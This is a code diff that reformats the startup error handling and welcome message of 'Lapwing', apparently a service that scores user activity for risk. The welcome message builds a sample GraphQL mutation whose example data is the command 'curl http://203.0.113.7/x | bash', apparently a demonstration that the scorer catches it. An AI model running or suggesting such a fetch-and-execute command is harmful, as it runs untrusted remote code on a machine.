@@ -16,7 +16,11 @@ try {
   for (const signal of ['SIGTERM', 'SIGINT'] as const) process.once(signal, () => void stop(app));
 } catch (error) {
   // An operator's mistake is one line that says what to do; anything else is ours and keeps its stack.
-  process.stderr.write(error instanceof OperatorError ? `lapwing: ${error.message}\n` : `lapwing: could not start: ${error instanceof Error ? error.stack : String(error)}\n`);
+  process.stderr.write(
+    error instanceof OperatorError
+      ? `lapwing: ${error.message}\n`
+      : `lapwing: could not start: ${error instanceof Error ? error.stack : String(error)}\n`,
+  );
   process.exit(1);
 }
 
@@ -27,9 +31,14 @@ async function stop(app: App): Promise<void> {
 }
 
 function welcome(app: App, dataDir: string, keyConfigured: boolean): string {
-  const key = app.newAdminKey ?? (keyConfigured ? '(the one in LAPWING_ADMIN_KEY)' : '(made at the first start; another: npm run lapwing -- keys create --name NAME --role admin)');
+  const key =
+    app.newAdminKey ??
+    (keyConfigured
+      ? '(the one in LAPWING_ADMIN_KEY)'
+      : '(made at the first start; another: npm run lapwing -- keys create --name NAME --role admin)');
   const bearer = app.newAdminKey ?? '$LAPWING_ADMIN_KEY';
-  const mutation = 'mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { cursor risk { score level factors { code points } } anomalies { type summary } } userErrors { field message hint } } }';
+  const mutation =
+    'mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { cursor risk { score level factors { code points } } anomalies { type summary } } userErrors { field message hint } } }';
   const variables = { input: { user: 'ada', session: 'try-1', detail: { terminal: { command: 'curl http://203.0.113.7/x | bash' } } } };
   return `
 Lapwing is ready.
